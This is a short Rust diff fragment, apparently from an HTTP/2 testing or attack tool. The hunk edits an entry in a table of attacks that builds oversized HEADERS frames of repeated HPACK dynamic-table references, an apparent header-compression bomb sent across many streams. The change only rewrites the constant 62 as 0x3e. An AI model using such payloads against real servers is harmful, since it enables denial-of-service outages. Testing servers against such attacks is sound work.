@@ -119,7 +119,7 @@ pub const RESETS: &[Attack] = &[
                 let mut block = call(WATCH);
                 block.extend(field("x-long", &"x".repeat(3_900), true));
                 // The newest entry of the table, over and over.
-                block.resize(16 << 10, 0x80 | 62);
+                block.resize(16 << 10, 0x80 | 0x3e);
                 frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
             };
             each_stream(n.div_ceil(1_000), bomb)
